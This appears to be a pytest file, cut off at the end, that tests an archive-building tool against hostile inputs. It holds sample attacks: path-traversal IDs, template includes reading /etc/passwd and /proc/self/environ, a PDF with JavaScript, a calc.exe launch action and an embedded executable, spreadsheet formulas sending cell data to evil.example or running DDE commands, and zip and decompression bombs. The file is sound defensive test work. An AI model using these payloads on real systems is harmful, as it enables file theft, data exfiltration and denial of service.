"""Hostile inputs (issue 17): nothing escapes its folder, nothing active reaches the archive,
nothing hangs or crashes. Every hostile file is made here, in code; every test runs under a
timeout so that a hang fails instead of blocking the run."""

from __future__ import annotations

import io
import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from datadir import valid_household, write_data_dir

from archive_builder.cli import main
from archive_builder.errors import ExitCode

pytestmark = pytest.mark.timeout(120)


def run(*args: Any) -> Any:
    return CliRunner().invoke(main, [str(a) for a in args])


def pdfs_under(folder: Path) -> set[Path]:
    return {p for p in folder.rglob("*.pdf")}


# --------------------------------------------------------------------------- 1 household IDs


@pytest.mark.parametrize("hid", ["../../../PWNED_rel", "../../manifest", "/tmp/PWNED_abs", "C:evil", ".hidden"])
def test_household_id_cannot_leave_the_output_folder(tmp_path: Path, hid: str) -> None:
    bad = valid_household(hid, serial=1)
    bad["_folder"] = "bad"
    data = write_data_dir(tmp_path / "a" / "b" / "c" / "data", [valid_household(serial=0), bad])
    out = tmp_path / "a" / "b" / "c" / "out"
    before = pdfs_under(tmp_path)

    checked = run("validate", data)
    assert checked.exit_code == ExitCode.problems, checked.output
    assert "户编号不能用作文件名" in checked.output
    assert "household_id" in checked.output or "户编号" in checked.output

    built = run("build", data, "-o", out, "-j", "1")
    assert built.exit_code == ExitCode.partial, built.output
    assert built.exception is None or isinstance(built.exception, SystemExit)
    written = pdfs_under(tmp_path) - before
    assert written, built.output
    assert all(p.resolve().is_relative_to(out.resolve()) for p in written), written
    assert not (out / "manifest.pdf").exists()
    assert not Path("/tmp/PWNED_abs.pdf").exists()
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    assert [f["household_id"] for f in manifest["failed"]] == [hid]


# --------------------------------------------------------------------------- 2 template names


SECRET = "TOP-SECRET-LINE-42"


@pytest.mark.parametrize(
    "statement",
    [
        "{% include '{secret}' %}",
        "{% include '../../outside/secret.txt' %}",
        "{% include '../../../../../../../../..{secret}' %}",
        "{% include '/etc:passwd' %}",
        "{% include '{secret_dir}:secret.txt' %}",
        "{% import '{secret}' as x %}",
        "{% extends '{secret}' %}",
        "{% include 'sections/link.xml' %}",
        "{% include 'sections\\\\..\\\\..\\\\outside\\\\secret.txt' %}",
        "{% include '/proc/self/environ' %}",
        "{% include '/etc/passwd' %}",
    ],
)
def test_template_names_stay_inside_the_template_folders(tmp_path: Path, statement: str) -> None:
    from archive_builder import templates as t
    from archive_builder.errors import TemplateError

    outside = tmp_path / "outside"
    outside.mkdir()
    secret = outside / "secret.txt"
    secret.write_text(SECRET + "\n<section/>", encoding="utf-8")
    data = tmp_path / "data"
    sections = data / "templates" / "sections"
    sections.mkdir(parents=True)
    (sections / "link.xml").symlink_to(secret)
    text = statement.replace("{secret}", str(secret)).replace("{secret_dir}", str(outside))
    (sections / "notes.xml").write_text(f"<section>{text}</section>", encoding="utf-8")
    tset = t.resolve_set("default", data_dir=data)
    with pytest.raises(TemplateError) as info:
        t.render_section_xml(tset, "sections/notes.xml", {})
    shown = str(info.value)
    assert SECRET not in shown
    assert "root:" not in shown
    import os

    assert not any(f"{k}=" in shown for k in os.environ if len(k) > 3)


def test_builtin_prefix_still_works(tmp_path: Path) -> None:
    from archive_builder import templates as t

    data = tmp_path / "data"
    sections = data / "templates" / "sections"
    sections.mkdir(parents=True)
    (sections / "notes.xml").write_text('{% extends "default:sections/notes.xml" %}', encoding="utf-8")
    tset = t.resolve_set("default", data_dir=data)
    assert "<section" in t.render_section_xml(tset, "sections/notes.xml", {"household": {"notes": "x"}})


# --------------------------------------------------------------------------- 3 active content

ACTIVE = ("/JS", "/JavaScript", "/Launch", "/EmbeddedFile", "/EmbeddedFiles", "/AcroForm",
          "/OpenAction", "/URI", "/XFA", "/Annots", "/AA", "/Filespec")


def hostile_pdf() -> bytes:
    """A one-page PDF (a grey block, no text) carrying every kind of active content."""
    import pikepdf

    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[0]
    page.obj.Contents = pdf.make_stream(b"0.5 g 100 100 300 300 re f")
    js = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('x')"))
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe"))
    uri = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("http://evil.example/"))
    evil = pdf.make_stream(b"MZ evil program")
    evil.Type = pikepdf.Name.EmbeddedFile
    spec = pdf.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.Filespec, F=pikepdf.String("evil.exe"), EF=pikepdf.Dictionary(F=evil)))
    stamp = pdf.make_stream(b"1 0 0 rg 0 0 50 20 re f")
    stamp.Type = pikepdf.Name.XObject
    stamp.Subtype = pikepdf.Name.Form
    stamp.BBox = [0, 0, 50, 20]
    field = pdf.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Btn,
        T=pikepdf.String("ok"), Rect=[400, 700, 450, 720], F=4, A=js,
        AP=pikepdf.Dictionary(N=stamp), P=page.obj))
    annots = [
        pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 100, 100], A=launch),
        pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 100, 100, 200], A=uri),
        pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 200, 100, 300], A=js),
        pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment,
                           Rect=[0, 300, 20, 320], FS=spec),
        field,
    ]
    page.obj.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(a) for a in annots[:4]] + [field]))
    page.obj.AA = pikepdf.Dictionary(O=js)
    # a script hidden where nothing would run it: still cut out
    page.obj.Resources = pikepdf.Dictionary(Hidden=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("x")))
    pdf.Root.OpenAction = js
    pdf.Root.AA = pikepdf.Dictionary(WC=js)
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("a"), js]),
        EmbeddedFiles=pikepdf.Dictionary(Names=[pikepdf.String("evil.exe"), spec]),
    )
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[field], XFA=pdf.make_stream(b"<xdp:xdp/>"))
    buf = io.BytesIO()
    pdf.save(buf)
    return buf.getvalue()


def active_names(path: Path) -> set[str]:
    """Every active-content name used as a key or value in any object of the PDF (pikepdf)."""
    import pikepdf

    found: set[str] = set()

    def walk(value: Any, depth: int = 0) -> None:
        if depth > 50:
            return
        if isinstance(value, pikepdf.Name):
            if str(value) in ACTIVE:
                found.add(str(value))
        elif isinstance(value, pikepdf.Array):
            for item in value:
                if not getattr(item, "is_indirect", False):
                    walk(item, depth + 1)
                elif isinstance(item, pikepdf.Name):
                    walk(item, depth + 1)
        elif isinstance(value, (pikepdf.Dictionary, pikepdf.Stream)):
            for key in value.keys():
                if key in ACTIVE:
                    found.add(key)
                item = value.get(key)
                if item is not None and (not getattr(item, "is_indirect", False) or isinstance(item, pikepdf.Name)):
                    walk(item, depth + 1)

    with pikepdf.open(path) as pdf:
        for obj in pdf.objects:
            walk(obj)
        walk(pdf.trailer)
    return found


def test_hostile_pdf_is_really_hostile(tmp_path: Path) -> None:
    path = tmp_path / "h.pdf"
    path.write_bytes(hostile_pdf())
    assert {"/JS", "/Launch", "/EmbeddedFile", "/AcroForm", "/OpenAction"} <= active_names(path)


def test_evidence_pdf_is_placed_as_content_only(tmp_path: Path) -> None:
    from archive_builder.render.evidence import EvidenceCache, PdfPageAsset

    src = tmp_path / "statement.pdf"
    src.write_bytes(hostile_pdf())
    assets = EvidenceCache(tmp_path / "cache").assets(src, display_path="statement.pdf")
    assert len(assets) == 1 and isinstance(assets[0], PdfPageAsset), assets
    asset = assets[0]
    assert asset.path is not None and asset.path != src
    assert active_names(asset.path) == set()
    assert {"actions", "javascript", "attachments", "forms", "xfa"} <= set(asset.removed)
    # what prints stays: the grey block and the form field's red appearance
    import pypdfium2 as pdfium

    doc = pdfium.PdfDocument(str(asset.path))
    image = doc[0].render(scale=1).to_pil().convert("RGB")
    assert image.getpixel((200, 842 - 200)) == (128, 128, 128) or sum(image.getpixel((200, 842 - 200))) < 500
    r, g, b = image.getpixel((425, 842 - 710))
    assert r > 200 and g < 60 and b < 60, (r, g, b)
    doc.close()


def test_build_with_hostile_evidence_has_no_active_content(tmp_path: Path) -> None:
    data = write_data_dir(tmp_path / "data", [valid_household()])
    folder = data / "冯老村" / "4116211052010001"
    (folder / "佐证" / "银行流水.pdf").write_bytes(hostile_pdf())
    (folder / "佐证" / "分红凭证.pdf").write_bytes(hostile_pdf())
    out = tmp_path / "out"
    built = run("build", data, "-o", out, "-j", "1")
    assert built.exit_code in (ExitCode.ok, ExitCode.partial), built.output
    assert "JavaScript" in built.output and "已去除" in built.output
    pdfs = pdfs_under(out)
    assert any("分户档卡" in str(p) for p in pdfs) and any("盒" in p.name for p in pdfs), pdfs
    for pdf in pdfs:
        assert active_names(pdf) == set(), pdf


# --------------------------------------------------------------------------- 4, 5, 11, 19 evidence paths

HID = "4116211052010001"


def one_household(tmp_path: Path, **changes: Any) -> tuple[Path, Path]:
    record = valid_household(HID)
    record.update(changes)
    data = write_data_dir(tmp_path / "data", [record])
    return data, data / "冯老村" / HID


def test_fifo_as_evidence_neither_hangs_nor_passes_as_a_folder(tmp_path: Path) -> None:
    import os

    data, folder = one_household(tmp_path)
    (folder / "户口簿.jpg").unlink()
    os.mkfifo(folder / "户口簿.jpg")
    checked = run("validate", data)
    assert checked.exit_code in (ExitCode.ok, ExitCode.problems), checked.output
    assert "不是普通文件" in checked.output and "是文件夹" not in checked.output
    built = run("build", data, "-o", tmp_path / "out", "-j", "1")
    assert built.exit_code == ExitCode.ok, built.output
    assert "不是普通文件" in built.output
    packet = run("packet", data, HID, "-o", tmp_path / "p.pdf")
    assert packet.exit_code == ExitCode.ok, packet.output
    assert (tmp_path / "p.pdf").is_file()


def test_symlink_loop_as_evidence_is_one_problem(tmp_path: Path) -> None:
    data, folder = one_household(tmp_path)
    (folder / "户口簿.jpg").unlink()
    (folder / "户口簿.jpg").symlink_to("户口簿.jpg")
    checked = run("validate", data)
    assert checked.exit_code == ExitCode.problems, checked.output
    assert "循环的符号链接" in checked.output
    built = run("build", data, "-o", tmp_path / "out", "-j", "1")
    assert built.exit_code == ExitCode.partial, built.output
    assert "循环的符号链接" in built.output


def test_backslash_paths_validate_and_print_alike(tmp_path: Path) -> None:
    from PIL import Image

    data, folder = one_household(tmp_path, evidence=["照片\\photo_01.jpg"])
    (folder / "照片").mkdir()
    Image.new("RGB", (40, 30), (200, 0, 0)).save(folder / "照片" / "photo_01.jpg")
    checked = run("validate", data)
    assert "photo_01" not in checked.output, checked.output
    built = run("build", data, "-o", tmp_path / "out", "-j", "1")
    assert built.exit_code == ExitCode.ok, built.output
    assert "photo_01" not in built.output and "不存在" not in built.output


def test_decomposed_file_name_matches_composed_record(tmp_path: Path) -> None:
    import unicodedata

    from PIL import Image

    name = "户口簿（é）.jpg"
    data, folder = one_household(tmp_path, evidence=[unicodedata.normalize("NFC", name)])
    Image.new("RGB", (40, 30)).save(folder / unicodedata.normalize("NFD", name))
    checked = run("validate", data)
    assert "不存在" not in checked.output, checked.output
    built = run("build", data, "-o", tmp_path / "out", "-j", "1")
    assert built.exit_code == ExitCode.ok, built.output
    assert "不存在" not in built.output


def test_household_folder_linking_outside_is_refused(tmp_path: Path) -> None:
    data, folder = one_household(tmp_path)
    outside = tmp_path / "elsewhere" / "x"
    outside.parent.mkdir()
    folder.rename(outside)
    (data / "冯老村" / HID).symlink_to(outside)
    checked = run("validate", data)
    assert checked.exit_code == ExitCode.problems, checked.output
    assert "数据目录以外" in checked.output
    built = run("build", data, "-o", tmp_path / "out", "-j", "1")
    assert "数据目录以外" in built.output
    assert not list((tmp_path / "out").rglob(f"{HID}.pdf"))


# --------------------------------------------------------------------------- 6, 8, 20 record text


def json_household(tmp_path: Path, mutate: Any) -> Path:
    record = valid_household(HID)
    data = write_data_dir(tmp_path / "data", [dict(record, _format="json")])
    path = data / "冯老村" / HID / "household.json"
    path.write_text(mutate(path.read_text(encoding="utf-8")), encoding="utf-8")
    return data


def test_lone_surrogate_is_an_error_of_its_field(tmp_path: Path) -> None:
    data = json_household(tmp_path, lambda t: t.replace('"address": "', '"address": "A\\ud800B'))
    checked = run("validate", data)
    assert checked.exit_code == ExitCode.problems, checked.output
    assert "[address]" in checked.output and "U+D800" in checked.output
    assert "household.json:" in checked.output
    built = run("build", data, "-o", tmp_path / "out", "-j", "1")
    assert built.exit_code == ExitCode.partial, built.output
    assert json.loads((tmp_path / "out" / "manifest.json").read_text(encoding="utf-8"))["failed"]


@pytest.mark.parametrize("char", ["\x00", "\x07", "\x0b", "\x0c", "\x1b", "\ufffe", "\uffff"])
def test_control_characters_are_named_by_validate_and_mapped_in_print(tmp_path: Path, char: str) -> None:
    from pypdf import PdfReader

    record = valid_household(HID)
    record["notes"] = f"第一行{char}第二行"
    data = write_data_dir(tmp_path / "data", [dict(record, _format="json")])
    checked = run("validate", data)
    assert "[notes]" in checked.output and "控制字符" in checked.output, checked.output
    assert checked.exit_code in (ExitCode.ok, ExitCode.problems)
    built = run("build", data, "-o", tmp_path / "out", "-j", "1")
    assert built.exit_code == ExitCode.ok, built.output
    assert "不是有效的 XML" not in built.output
    packet = next((tmp_path / "out").rglob(f"{HID}.pdf"))
    text = "".join(page.extract_text() for page in PdfReader(packet).pages)
    assert "第一行" in text and "第二行" in text


def test_control_characters_in_a_template_context_never_fail_rendering() -> None:
    from archive_builder.templates import SectionSpec, parse_section

    spec = SectionSpec(key="notes", title="户说明", template="sections/notes.xml")
    section = parse_section("<section><p>a\x0bb\x00c\ufffe</p></section>", spec)
    assert section is not None
    assert section.blocks[0].text.replace("\n", "") == "abc"


def test_overlong_text_is_refused_with_its_length(tmp_path: Path) -> None:
    record = valid_household(HID)
    record["members"][0]["name"] = "张" * 1_000_000
    data = write_data_dir(tmp_path / "data", [record])
    checked = run("validate", data)
    assert checked.exit_code == ExitCode.problems
    assert "1000000 个字符" in checked.output
    assert len(checked.output) < 20_000
    built = run("build", data, "-o", tmp_path / "out", "-j", "1")
    assert built.exit_code == ExitCode.partial
    assert len(built.output) < 20_000


# --------------------------------------------------------------------------- 7 broken evidence PDFs


def raw_pdf(page_extra: bytes = b"", content: bytes | None = None) -> bytes:
    """A one-page PDF written by hand, so that its structure can be broken at will."""
    def stream(head: bytes, data: bytes) -> bytes:
        return head[:-2] + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"

    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + page_extra
        + b" /Contents 4 0 R /Resources << >> >>",
        content or stream(b"<< >>", b"0 g 10 10 100 100 re f"),
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def broken_pdfs() -> dict[str, bytes]:
    import zlib

    data = b"0 g 10 10 100 100 re f"
    hexed = data
    for _ in range(6):
        hexed = hexed.hex().encode()
    chain = b"[" + b" /ASCIIHexDecode" * 1000 + b"]"
    bomb = zlib.compress(b" " * (300 * 1024 * 1024), 9)
    return {
        "cropbox.pdf": raw_pdf(b"/CropBox /Nope"),
        "filters.pdf": raw_pdf(content=b"<< /Filter " + chain + b" /Length %d >>\nstream\n" % len(hexed)
                               + hexed + b"\nendstream"),
        "bomb.pdf": raw_pdf(content=b"<< /Filter /FlateDecode /Length %d >>\nstream\n" % len(bomb)
                            + bomb + b"\nendstream"),
        "length.pdf": raw_pdf(content=b"<< /Length 4 0 R >>\nstream\n" + data + b"\nendstream"),
    }


def test_broken_evidence_pdfs_are_placeholders_not_failed_households(tmp_path: Path) -> None:
    files = broken_pdfs()
    record = valid_household(HID)
    record["evidence"] = list(files)
    data = write_data_dir(tmp_path / "data", [record])
    for name, body in files.items():
        (data / "冯老村" / HID / name).write_bytes(body)
    built = run("build", data, "-o", tmp_path / "out", "-j", "1")
    assert built.exit_code == ExitCode.ok, built.output
    for name in ("cropbox.pdf", "filters.pdf", "bomb.pdf"):
        assert f"{name} 无法读取" in built.output, built.output
    packet = run("packet", data, HID, "-o", tmp_path / "p.pdf")
    assert packet.exit_code == ExitCode.ok, packet.output


# --------------------------------------------------------------------------- 12 encrypted evidence


@pytest.mark.parametrize("revision", [4, 6])  # AES-128, AES-256
def test_aes_encrypted_evidence_pdfs(tmp_path: Path, revision: int) -> None:
    import pikepdf

    from archive_builder.render.evidence import EvidenceCache, PdfPageAsset, Placeholder

    def encrypted(user: str) -> Path:
        pdf = pikepdf.open(io.BytesIO(raw_pdf()))
        path = tmp_path / f"{revision}-{user or 'owner'}.pdf"
        pdf.save(path, encryption=pikepdf.Encryption(owner="bank", user=user, R=revision, aes=True))
        return path

    cache = EvidenceCache(tmp_path / "cache")
    owner_only = cache.assets(encrypted(""), display_path="statement.pdf")
    assert isinstance(owner_only[0], PdfPageAsset), owner_only
    locked = cache.assets(encrypted("secret"), display_path="locked.pdf")
    assert isinstance(locked[0], Placeholder) and "已加密" in locked[0].reason, locked
    # pypdf (the writer and diff) can open AES files too: cryptography is installed
    from archive_builder.render.evidence import open_evidence_pdf

    assert len(open_evidence_pdf(encrypted("")).pages) == 1


# --------------------------------------------------------------------------- 9, 20 orientation and size

_STORED_TO_UPRIGHT = {2: "FLIP_LEFT_RIGHT", 3: "ROTATE_180", 4: "FLIP_TOP_BOTTOM", 5: "TRANSPOSE",
                      6: "ROTATE_270", 7: "TRANSVERSE", 8: "ROTATE_90"}


@pytest.mark.parametrize("fmt", ["JPEG", "TIFF-G4", "TIFF-RGB"])
@pytest.mark.parametrize("orientation", range(1, 9))
def test_orientation_is_applied_exactly_once(tmp_path: Path, fmt: str, orientation: int) -> None:
    from PIL import Image, TiffImagePlugin

    from archive_builder.render.evidence import EvidenceCache, ImageAsset

    mode, ink, paper = ("1", 0, 1) if fmt == "TIFF-G4" else ("RGB", (0, 0, 0), (255, 255, 255))
    stored = Image.new(mode, (200, 100), paper)
    stored.paste(ink, (0, 0, 40, 40))  # a block in the stored top-left corner
    path = tmp_path / ("scan.jpg" if fmt == "JPEG" else "scan.tif")
    if fmt == "JPEG":
        exif = Image.Exif()
        exif[0x0112] = orientation
        stored.save(path, "JPEG", quality=95, exif=exif.tobytes())
    else:
        info = TiffImagePlugin.ImageFileDirectory_v2()
        info[0x0112] = orientation
        stored.save(path, "TIFF", compression="group4" if mode == "1" else "raw", tiffinfo=info)
    expected = stored.convert("L")
    if orientation in _STORED_TO_UPRIGHT:
        expected = expected.transpose(getattr(Image.Transpose, _STORED_TO_UPRIGHT[orientation]))
    assets = EvidenceCache(tmp_path / "cache").assets(path, display_path=path.name)
    asset = assets[0]
    assert isinstance(asset, ImageAsset), asset
    assert (asset.width_px, asset.height_px) == expected.size
    with Image.open(io.BytesIO(asset.image_bytes())) as out:
        got = out.convert("L")
        assert got.size == expected.size
        w, h = got.size
        for x, y in ((10, 10), (w - 10, 10), (10, h - 10), (w - 10, h - 10)):
            assert (got.getpixel((x, y)) < 128) == (expected.getpixel((x, y)) < 128), (x, y)


def test_huge_jpeg_is_judged_after_the_draft(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from PIL import Image

    from archive_builder.render.evidence import EvidenceCache, ImageAsset, Placeholder

    path = tmp_path / "panorama.jpg"
    Image.linear_gradient("L").resize((4000, 4000)).save(path, quality=70)
    # 16 MP is over twice this limit: Pillow alone refuses it from the header
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 5_000_000)
    cache = EvidenceCache(tmp_path / "cache")
    asset = cache.assets(path, display_path=path.name)[0]
    assert isinstance(asset, ImageAsset), asset
    png = tmp_path / "huge.png"
    Image.new("1", (4000, 4000)).save(png)  # no draft for PNG: still a bomb
    assert isinstance(cache.assets(png, display_path=png.name)[0], Placeholder)


# --------------------------------------------------------------------------- 10 formulas in exports

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "=cmd|'/c calc'!A1", "+1+1", "-2+3",
            "@SUM(1+1)", '=DDE("cmd";"/C calc";"!A0")', "＝1+1"]


def test_export_writes_formula_like_text_as_text_and_reads_it_back(tmp_path: Path) -> None:
    import yaml
    from openpyxl import load_workbook

    from archive_builder.io.spreadsheet import export_sheet, import_sheet

    households = []
    for serial, payload in enumerate(PAYLOADS):
        record = valid_household(f"41162110520100{serial:02d}", serial=serial)
        record["address"] = payload
        record["members"][1]["name"] = payload
        households.append(record)
    data = write_data_dir(tmp_path / "data", households)
    out = tmp_path / "export.xlsx"
    export_sheet(data, out)
    book = load_workbook(out)
    cells = [c for row in book.active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert {c.value for c in cells} >= set(PAYLOADS)
    again = tmp_path / "again"
    import datetime

    report = import_sheet(out, again, today=datetime.date(2025, 6, 1))
    assert len(report.created) == len(PAYLOADS), report.format_text()
    got = {}
    for path in again.rglob("household.yaml"):
        record = yaml.safe_load(path.read_text("utf-8"))
        got[record["household_id"]] = (record["address"], [m["name"] for m in record["members"]][1])
    assert got == {h["household_id"]: (h["address"], h["address"]) for h in households}
    second = tmp_path / "export2.xlsx"
    export_sheet(again, second)
    first_values = [[c.value for c in row] for row in load_workbook(out).active.iter_rows()]
    second_values = [[c.value for c in row] for row in load_workbook(second).active.iter_rows()]
    # the income ledger is not part of the sheet (人均纯收入 is computed, not imported)
    keep = [i for i, h in enumerate(first_values[0]) if "收入" not in str(h)]
    assert [[r[i] for i in keep] for r in first_values] == [[r[i] for i in keep] for r in second_values]


# --------------------------------------------------------------------------- 16 spreadsheet bombs


def bomb_xlsx(path: Path, padding: int) -> Path:
    """A valid .xlsx whose worksheet XML is padded with ``padding`` bytes of whitespace."""
    import zipfile

    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["户编号", "姓名"])
    plain = io.BytesIO()
    book.save(plain)
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as dst:
        for info in src.infolist():
            body = src.read(info)
            if info.filename.endswith("sheet1.xml"):
                body = body.replace(b"<sheetData>", b"<sheetData>" + b" " * padding, 1)
            dst.writestr(info.filename, body)
    return path


def test_zip_bomb_sheet_is_refused_before_parsing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from archive_builder.io import sheetread as spreadsheet
    from archive_builder.io.spreadsheet import SheetError, import_sheet

    monkeypatch.setattr(spreadsheet, "MAX_XLSX_BYTES", 8 * 1024 * 1024)
    sheet = bomb_xlsx(tmp_path / "bomb.xlsx", 40 * 1024 * 1024)
    assert sheet.stat().st_size < 1024 * 1024
    parsed: list[Any] = []
    monkeypatch.setattr("openpyxl.load_workbook", lambda *a, **k: parsed.append(a))
    with pytest.raises(SheetError) as info:
        import_sheet(sheet, tmp_path / "data")
    assert "压缩炸弹" in info.value.message and "bomb.xlsx" in info.value.message
    assert parsed == []
    result = run("import", sheet, tmp_path / "data2")
    assert result.exit_code == ExitCode.input_unusable, result.output


def test_sheet_rows_and_columns_are_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from openpyxl import Workbook

    from archive_builder.io import sheetread as spreadsheet
    from archive_builder.io.spreadsheet import SheetError, read_rows

    monkeypatch.setattr(spreadsheet, "MAX_ROWS", 50)
    monkeypatch.setattr(spreadsheet, "MAX_COLUMNS", 20)
    book = Workbook()
    for r in range(60):
        book.active.append([f"r{r}", "x"])
    book.save(tmp_path / "rows.xlsx")
    with pytest.raises(SheetError, match="超过 50 行"):
        read_rows(tmp_path / "rows.xlsx")
    book = Workbook()
    book.active.append(["x"] * 30)
    book.save(tmp_path / "cols.xlsx")
    with pytest.raises(SheetError, match="超过 20 列"):
        read_rows(tmp_path / "cols.xlsx")


# --------------------------------------------------------------------------- 15 workers


@pytest.mark.parametrize("workers", [100000, 200])
def test_workers_setting_is_bounded_by_cpus_and_said_so(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                        workers: int) -> None:
    from concurrent.futures import ProcessPoolExecutor

    from datadir import ARCHIVE_TOML

    from archive_builder.archive import scheduler as scheduler_module

    started: list[int] = []

    class Recording(ProcessPoolExecutor):
        def __init__(self, max_workers: int | None = None, **kwargs: Any) -> None:
            started.append(max_workers or 0)
            super().__init__(max_workers=max_workers, **kwargs)

    monkeypatch.setattr(scheduler_module, "ProcessPoolExecutor", Recording)
    monkeypatch.setattr(scheduler_module.os, "cpu_count", lambda: 2)
    households = [valid_household(f"41162110520100{i:02d}", serial=i) for i in range(3)]
    data = write_data_dir(tmp_path / "data", households,
                          archive=ARCHIVE_TOML + f"\n[build]\nworkers = {workers}\n")
    built = CliRunner().invoke(main, ["build", str(data), "-o", str(tmp_path / "out")])
    assert built.exit_code == ExitCode.ok, built.output
    assert f"workers = {workers}" in built.output and "已按 2 个并行进程运行" in built.output
    assert started and max(started) <= 2, started


# --------------------------------------------------------------------------- 14 malformed templates


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("{% include 'sections/notes.xml' %}", "递归"),
        ('<section><heading level="abc">x</heading></section>', "level"),
        ('<section><spacer mm="nan"/></section>', "mm"),
        ('<section><p size="inf">x</p></section>', "size"),
        ('<section><table widths="nan,1"><tr><c>a</c></tr></table></section>', "widths"),
        ('<section><kv columns="1e9"><row key="a">b</row></kv></section>', "columns"),
        ("<section>{{ 'a' * 10**9 }}</section>", "过大"),
        ("<section>{{ 'a' * 10**4 * 10**4 }}</section>", "过大"),
        ("<section>{{ 2 ** 999999999 }}</section>", "乘方"),
        ("<section>{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}</section>", "上限"),
        ("<section>{% for i in range(100000) %}{{ 'x' * 100000 }}{% endfor %}</section>", "上限"),
        ("<section>{{ 'a'|center(10**9) }}</section>", "过大"),
        ("<section>{{ '%0999999999d'|format(1) }}</section>", "过大"),
        ("{% macro m() %}{{ m() }}{% endmacro %}<section>{{ m() }}</section>", "递归"),
        ("<section>\n\n{{ hh.nope.deeper() }}</section>", "第 3 行"),
    ],
)
def test_malformed_templates_are_template_errors(tmp_path: Path, text: str, said: str) -> None:
    from archive_builder import templates as t
    from archive_builder.errors import TemplateError

    data = tmp_path / "data"
    sections = data / "templates" / "sections"
    sections.mkdir(parents=True)
    (sections / "notes.xml").write_text(text, encoding="utf-8")
    tset = t.resolve_set("default", data_dir=data)
    spec = next(s for s in tset.sections if s.key == "notes")
    with pytest.raises(TemplateError) as info:
        xml = t.render_section_xml(tset, "sections/notes.xml", {"hh": {"notes": "x"}})
        t.parse_section(xml, spec, template="sections/notes.xml")
    assert said in str(info.value), str(info.value)
    assert "notes.xml" in str(info.value)


def test_malformed_template_fails_households_not_the_build(tmp_path: Path) -> None:
    data = write_data_dir(tmp_path / "data", [dict(valid_household(HID), notes="户情况")])
    sections = data / "templates" / "sections"
    sections.mkdir(parents=True)
    (sections / "notes.xml").write_text('<section><heading level="abc">x</heading></section>', encoding="utf-8")
    built = run("build", data, "-o", tmp_path / "out", "-j", "1")
    assert built.exit_code != ExitCode.internal, built.output
    assert "内部错误" not in built.output and "level" in built.output


# --------------------------------------------------------------------------- 13 diff of odd PDFs


def reportlab_pdf(path: Path, size: tuple[float, float], pages: int, text: str = "page") -> Path:
    from reportlab.pdfgen import canvas

    c = canvas.Canvas(str(path), pagesize=size)
    for i in range(pages):
        c.rect(10, 10, 100, 100, fill=1)
        c.drawString(20, size[1] - 40, f"{text} {i}")
        c.showPage()
    c.save()
    return path


def test_diff_of_odd_pdfs_never_crashes(tmp_path: Path) -> None:
    from archive_builder.versions import pdfdiff

    a = reportlab_pdf(tmp_path / "a.pdf", (595, 842), 4)
    b = reportlab_pdf(tmp_path / "b.pdf", (300, 200), 1, "other")
    huge = reportlab_pdf(tmp_path / "huge.pdf", (14400, 14400), 1)
    loop = tmp_path / "loop.pdf"
    loop.write_bytes(raw_pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [3 0 R 2 0 R] /Count 2"))
    for old, new in ((a, b), (b, a), (a, huge)):
        result = run("diff", old, new, "--report", tmp_path / "r.html")
        assert result.exit_code == ExitCode.problems, result.output
        assert (tmp_path / "r.html").is_file()
    for args in ((a, loop), (loop, a, "--report", tmp_path / "r2.html")):
        result = run("diff", *args)
        assert result.exit_code == ExitCode.input_unusable, result.output
        assert "页面结构已损坏" in result.output
    with pdfdiff._open(huge) as pdf:
        image = pdf.render(0, 60)
        assert image.width * image.height <= pdfdiff.MAX_RENDER_PIXELS


# --------------------------------------------------------------------------- 17 full disk


def _snapshot(out: Path) -> dict[str, bytes]:
    return {str(p.relative_to(out)): p.read_bytes() for p in out.rglob("*")
            if p.is_file() and ".cache" not in p.parts and ".store" not in p.parts and ".state" not in p.parts}


@pytest.mark.parametrize("where", ["state", "store", "store-io", "packet"])
